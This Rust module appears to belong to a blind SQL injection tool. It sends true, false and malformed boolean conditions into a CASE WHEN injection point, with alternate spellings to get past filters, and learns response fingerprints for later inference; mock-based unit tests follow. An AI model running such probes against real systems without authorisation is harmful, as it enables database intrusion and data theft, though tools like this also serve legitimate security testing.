//! Oracle calibration.
//!
//! Learns what TRUE, FALSE, and ERROR responses look like by sending
//! conditions whose truth value is known in every SQL dialect.

use crate::error::Result;
use crate::http::requester::Probe;
use crate::oracle::fingerprint::{Fingerprint, MatchKind};

// Pure boolean conditions for an injection point of the form
// CASE WHEN (<marker>) THEN ... ELSE ... END. Several spellings per class,
// because quoting or comparison operators may be filtered.
const TRUE_CONDITIONS: [&str; 4] = ["3=4-1", "'q'='q'", "1<4", "4>1"];
const FALSE_CONDITIONS: [&str; 4] = ["1=4", "'q'='b'", "1>4", "4<1"];
const ERROR_CONDITIONS: [&str; 4] = ["1='", "(1=3", "1=3)", "SELECT"];

/// The learned reference fingerprints for one injection point.
#[derive(Debug, Clone)]
pub struct CalibrationResult {
    pub true_fingerprint: Fingerprint,
    pub false_fingerprint: Fingerprint,
    pub error_fingerprint: Fingerprint,
    pub can_differentiate: bool,
    pub error_matches_true: bool,
}

impl CalibrationResult {
    pub fn is_true(&self, fp: &Fingerprint) -> bool {
        self.true_fingerprint.equals(fp)
    }

    pub fn is_false(&self, fp: &Fingerprint) -> bool {
        self.false_fingerprint.equals(fp)
    }

    pub fn is_error(&self, fp: &Fingerprint) -> bool {
        self.error_fingerprint.equals(fp)
    }

    pub fn match_kind(&self, fp: &Fingerprint) -> MatchKind {
        if self.is_true(fp) {
            MatchKind::True
        } else if self.is_false(fp) {
            MatchKind::False
        } else if self.is_error(fp) {
            MatchKind::Error
        } else {
            MatchKind::Unknown
        }
    }
}

/// Runs the calibration sweep against one injection point.
pub struct Calibrator<'a, P: Probe> {
    probe: &'a mut P,
}

impl<'a, P: Probe> Calibrator<'a, P> {
    pub fn new(probe: &'a mut P) -> Self {
        Self { probe }
    }

    pub async fn calibrate(&mut self) -> Result<CalibrationResult> {
        // Warmup probe, discarded. Flushes stale DNS and connection state
        // after VPN or network changes.
        tracing::debug!("sending warmup request");
        let _ = self.probe.send("3=3").await;

        tracing::debug!("testing TRUE conditions");
        let (true_fp, payload) = self.first_working(&TRUE_CONDITIONS).await?;
        tracing::debug!("TRUE payload: {payload}");

        tracing::debug!("testing FALSE conditions");
        let (false_fp, payload) = self.first_working(&FALSE_CONDITIONS).await?;
        tracing::debug!("FALSE payload: {payload}");

        tracing::debug!("testing ERROR conditions");
        let error_fp = match self.first_working(&ERROR_CONDITIONS).await {
            Ok((fp, payload)) => {
                tracing::debug!("ERROR payload: {payload}");
                fp
            }
            // A server that drops malformed probes entirely gives us no
            // ERROR reference; treat errors like FALSE from here on.
            Err(_) => {
                tracing::debug!("no ERROR response, aliasing ERROR to FALSE");
                false_fp.clone()
            }
        };

        let can_differentiate = !true_fp.equals(&false_fp);
        let error_matches_true = error_fp.equals(&true_fp);

        Ok(CalibrationResult {
            true_fingerprint: true_fp,
            false_fingerprint: false_fp,
            error_fingerprint: error_fp,
            can_differentiate,
            error_matches_true,
        })
    }

    /// Try conditions in order, keeping the first that yields any HTTP
    /// response. Transient retry is the requester's job, not ours.
    async fn first_working(&mut self, conditions: &[&'static str]) -> Result<(Fingerprint, &'static str)> {
        let mut last_err = None;
        for &condition in conditions {
            match self.probe.send(condition).await {
                Ok(resp) => return Ok((resp.fingerprint, condition)),
                Err(e) => last_err = Some(e),
            }
        }
        Err(last_err.expect("condition list is never empty"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testutil::MockProbe;

    #[tokio::test]
    async fn calibration_learns_distinct_fingerprints() {
        let mut probe = MockProbe::mysql();
        let cal = Calibrator::new(&mut probe).calibrate().await.unwrap();

        assert!(cal.can_differentiate);
        assert!(!cal.error_matches_true);
        assert!(cal.is_true(&cal.true_fingerprint));
        assert!(cal.is_false(&cal.false_fingerprint));
        assert_eq!(cal.match_kind(&cal.error_fingerprint), MatchKind::Error);
    }

    #[tokio::test]
    async fn flat_responses_cannot_differentiate() {
        let mut probe = MockProbe::mysql().with_flat_responses();
        let cal = Calibrator::new(&mut probe).calibrate().await.unwrap();
        assert!(!cal.can_differentiate);
    }
}
